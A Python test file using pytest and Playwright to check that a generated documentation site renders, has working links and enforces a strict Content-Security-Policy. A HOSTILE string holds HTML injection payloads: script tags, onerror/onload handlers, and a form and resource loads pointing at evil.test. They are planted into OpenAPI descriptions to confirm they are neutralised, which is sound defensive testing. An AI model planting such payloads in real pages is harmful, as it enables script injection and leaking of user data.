"""The site is made as people make it, and seen in a browser; a link that leads nowhere, or out of it, is noticed."""

import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Literal

import pytest
import yaml
from playwright.sync_api import Browser, Page, Route

from scripts.docs.__main__ import make
from scripts.docs.check_dead_links_and_external_loads import faults
from scripts.document import load
from scripts.generate.config import LANGUAGES
from tests.docs.pages import ROOT, snippets
from tests.expected import MAIN, expected
from tests.slowness import scaled

VIEWS: dict[str, tuple[Literal["light", "dark"], int]] = {"light": ("light", 1280), "dark and narrow": ("dark", 360)}
HOME = "docs/index.html"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site."""
    site = tmp_path_factory.mktemp("docs") / "site"
    assert make(site) == []
    return site


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A window; what it complains of, and what it asks of others, fails the test."""
    seen: list[str] = []
    with browser.new_context() as context:
        context.set_default_timeout(scaled(30_000))
        page = context.new_page()
        page.on("console", lambda message: seen.append(f"{page.url}: {message.text}"))
        page.on("pageerror", lambda error: seen.append(f"{page.url}: {error}"))
        page.on("request", lambda request: seen.append(request.url) if _is_elsewhere(request.url) else None)
        yield page
    assert seen == []


def copy_project(root: Path) -> None:
    """Copy what the site is made of."""
    for name in ("benchmarks", "docs", "generated", "languages", "scripts", "tests/conformance"):
        shutil.copytree(ROOT / name, root / name, ignore=shutil.ignore_patterns("__pycache__", ".*_cache"))
    for name in (
        "openapi.yaml",
        "LICENSE",
        "README.md",
        "CONTRIBUTING.md",
        "CHANGELOG.md",
        "UPGRADING.md",
        "SECURITY.md",
    ):
        shutil.copy(ROOT / name, root / name)


def _is_elsewhere(url: str) -> bool:
    return not url.startswith(("file:", "data:", "blob:"))


HOSTILE = """
<style>body { display: none !important } * { background: url(https://evil.test/style.png) }</style>
<style>
nav { visibility: hidden }
</style>

<form action="https://evil.test/posted" method="post"><button id="planted">Sign in</button></form>
<img src="https://evil.test/image.png" onerror="document.title = 'evil'"> ![x](https://evil.test/markdown.png)
<script>document.title = "evil"</script> <iframe src="https://evil.test/frame.html"></iframe>
<link rel="stylesheet" href="https://evil.test/link.css"> <svg onload="document.title = 'evil'"></svg>
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of a document that says what would act on a page, wherever it says anything."""
    root, site = tmp_path_factory.mktemp("hostile") / "root", tmp_path_factory.mktemp("hostile") / "site"
    copy_project(root)
    document = yaml.safe_load((ROOT / "openapi.yaml").read_text("utf-8"))
    document["info"]["description"] = document["tags"][0]["description"] = HOSTILE
    for item in document["paths"].values():
        for operation in item.values():
            operation["description"] = HOSTILE
            operation["responses"]["default"] = {"description": HOSTILE}
    document["components"]["schemas"]["Call"]["properties"]["id"]["description"] = HOSTILE
    (root / "openapi.yaml").write_text(yaml.safe_dump(document, sort_keys=False), "utf-8")
    assert make(site, root) == []
    return site


@pytest.fixture
def watched(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A window, and what of others it goes on to ask for: it tells of requests, too, that its policy stops."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body="")

    with browser.new_context() as context:
        context.set_default_timeout(scaled(30_000))
        context.route(_is_elsewhere, answer)
        yield context.new_page(), asked


def test_f4_8_a_hostile_document_does_nothing_on_the_reference(hostile: Path, watched: tuple[Page, list[str]]) -> None:
    page, asked = watched
    page.goto((hostile / "docs/api.html").as_uri())
    page.wait_for_function("document.documentElement.dataset.ready === 'yes'")
    assert "Sign in" in page.locator("#redoc").inner_text()
    assert page.locator("#redoc").is_visible()
    assert page.locator("nav.back").is_visible()
    assert "evil" not in page.title()
    for element in ("form", "style", "iframe", "script", "link", "svg[onload]", "#planted"):
        assert page.locator(f"#redoc {element}:not([data-styled])").count() == 0, element
    assert asked == []


def test_f4_8_no_page_of_the_site_posts_or_loads_anything(hostile: Path, watched: tuple[Page, list[str]]) -> None:
    """The policy of a page stops what a text might yet bring onto it."""
    page, asked = watched
    pages = sorted({*hostile.rglob("*.html")} - {hostile / "index.html"})
    assert len(pages) >= 10
    for path in pages:
        page.goto(path.as_uri())
        page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", HOSTILE)
        page.evaluate(
            """() => {
                const script = document.createElement("script");
                script.textContent = "document.title = 'evil'";
                document.body.append(script);
                document.querySelector("form[action*=evil]").submit();
            }"""
        )
        page.wait_for_timeout(50)
        assert page.url == path.as_uri()
        assert "evil" not in page.title()
        assert asked == [], path


def test_f4_8_every_page_has_the_policy_of_the_report(site: Path) -> None:
    pages = [path.read_text("utf-8") for path in site.rglob("*.html")]
    for text in pages:
        (policy,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
        rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
        assert (rules["default-src"], rules["form-action"], rules["base-uri"]) == ("'none'", "'none'", "'none'")
        assert rules["img-src"] == "'self' data:"
        assert "unsafe" not in rules["script-src"]
        before = text[: text.index("Content-Security-Policy")]
        assert not re.search("<(script|link|style|img)", before)


@pytest.mark.parametrize("view", VIEWS)
def test_every_page_can_be_read(view: str, site: Path, page: Page) -> None:
    scheme, width = VIEWS[view]
    page.set_viewport_size({"width": width, "height": 800})
    page.emulate_media(color_scheme=scheme)
    pages = sorted({*site.rglob("*.html")} - {site / "index.html"})  # which only leads to the first
    assert len(pages) >= 10
    for path in pages:
        page.goto(path.as_uri())
        assert page.title()
        wide = page.evaluate("document.documentElement.scrollWidth")
        assert wide <= width, f"{path} is {wide} wide"


def test_the_first_page_is_where_it_is_looked_for(site: Path, page: Page) -> None:
    page.goto((site / "index.html").as_uri())
    page.wait_for_url(f"**/{HOME}")


def test_the_quickstart_is_there_in_every_language(site: Path, page: Page) -> None:
    page.goto((site / HOME).as_uri())
    labels = page.locator(".sd-tab-set").first.locator("label").all_inner_texts()
    assert [label.lower() for label in labels] == list(LANGUAGES)
    for label, language in zip(labels, LANGUAGES, strict=True):
        page.locator(".sd-tab-set").first.get_by_text(label, exact=True).click()
        # All sets turn to the one that was chosen, and show what the package's own page shows.
        shown = "\n".join(page.locator("pre:visible").all_inner_texts())
        first = snippets(f"generated/{language}/README.md", expected(language, "readme")["fence"])[0]
        assert first.code.strip() in shown


def test_the_reference_shows_every_operation(site: Path, page: Page) -> None:
    page.goto((site / "docs/api.html").as_uri())
    page.wait_for_function("document.documentElement.dataset.ready === 'yes'")
    text = page.locator("#redoc").inner_text()
    for operation in load(ROOT / "openapi.yaml").operations:
        assert operation.path in text
        assert operation.summary in text


def test_the_python_reference_has_every_public_name(site: Path, page: Page) -> None:
    page.goto((site / "docs/python.html").as_uri())
    titles = {title.removesuffix("¶") for title in page.locator("h2, h3, h4").all_inner_texts()}
    public = re.findall(
        r'^    "(\w+)": "\w+",$', (ROOT / f"generated/{MAIN}/voicebot_studio/__init__.py").read_text(), re.M
    )
    assert len(public) > 20
    assert set(public) - titles == set()
    assert {"client.calls", "update", "Call", "Inputs"} <= titles
    shown = [page.locator(f'section[id="Inputs-{name}"]').inner_text() for name in ("Server", "CreateToolRequest")]
    # One is a class, the other can't be one: `async` is a key.
    for text, key, said in zip(
        shown, ("url: str | None", "async: bool | None"), ("Where it is", "without"), strict=True
    ):
        assert key in text
        assert said in text


def test_a_word_is_found(site: Path, page: Page) -> None:
    page.goto((site / HOME).as_uri())
    page.get_by_role("textbox", name="Search").fill("deadline")
    page.keyboard.press("Enter")
    page.locator("ul.search li a").first.click()
    page.wait_for_url(lambda url: "/search.html" not in url)
    assert "deadline" in page.locator("article").inner_text().lower()


@pytest.mark.parametrize(
    ("planted", "said"),
    [
        ('<a href="gone.html">', "page.html: leads to gone.html, which is not there"),
        ('<a href="#gone">', "page.html: leads to #gone, and that page has no such place"),
        ('<a href="other.html#gone">', "page.html: leads to other.html#gone, and that page has no such place"),
        ('<a href="../outside.html">', "page.html: leads to ../outside.html, which is not there"),
        ('<p id="a"><p id="a">', "page.html: has two places `a`"),
        ('<img src="gone.svg">', "page.html: leads to gone.svg, which is not there"),
        ('<script src="https://cdn.test/a.js">', "page.html: loads https://cdn.test/a.js from elsewhere"),
        ('<img src="//cdn.test/a.png">', "page.html: loads //cdn.test/a.png from elsewhere"),
        ('<link rel="stylesheet" href="http://a.test/a.css">', "page.html: loads http://a.test/a.css from elsewhere"),
        ("<style>a{background:url('https://a.test/b')}</style>", "page.html: loads https://a.test/b from elsewhere"),
        ('<a href="https://a.test/">', None),
        ('<a href="other.html#here">', None),
        ('<a href="mailto:a@a.test">', None),
    ],
)
def test_a_link_that_is_wrong_is_noticed(planted: str, said: str | None, tmp_path: Path) -> None:
    (tmp_path / "outside.html").write_text("", "utf-8")
    site = tmp_path / "site"
    site.mkdir()
    (site / "page.html").write_text(planted, "utf-8")
    (site / "other.html").write_text('<p id="here">', "utf-8")
    assert [*faults(site)] == ([said] if said else [])


def test_a_style_that_loads_from_elsewhere_is_noticed(tmp_path: Path) -> None:
    (tmp_path / "a.css").write_text('@import "https://fonts.test/a.css"; b { background: url(data:,) }', "utf-8")
    assert [*faults(tmp_path)] == ["a.css: loads https://fonts.test/a.css from elsewhere"]


def test_a_page_that_is_wrong_leaves_the_site_as_it_was(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    root, site = tmp_path / "root", tmp_path / "site"
    copy_project(root)
    with (root / "docs/reliability.md").open("a", encoding="utf-8") as planted:
        planted.write("\n[A](gone.md) [b](../README.md#gone)\n")
    site.mkdir()
    (site / "kept.html").touch()
    assert make(site, root) == ["Sphinx says above what is wrong"]
    said = capfd.readouterr().err
    assert "reliability.md" in said
    assert "gone.md" in said
    assert "'README': 'gone'" in said
    assert [path.name for path in site.iterdir()] == ["kept.html"]
    assert {path.name for path in tmp_path.iterdir()} == {"root", "site"}
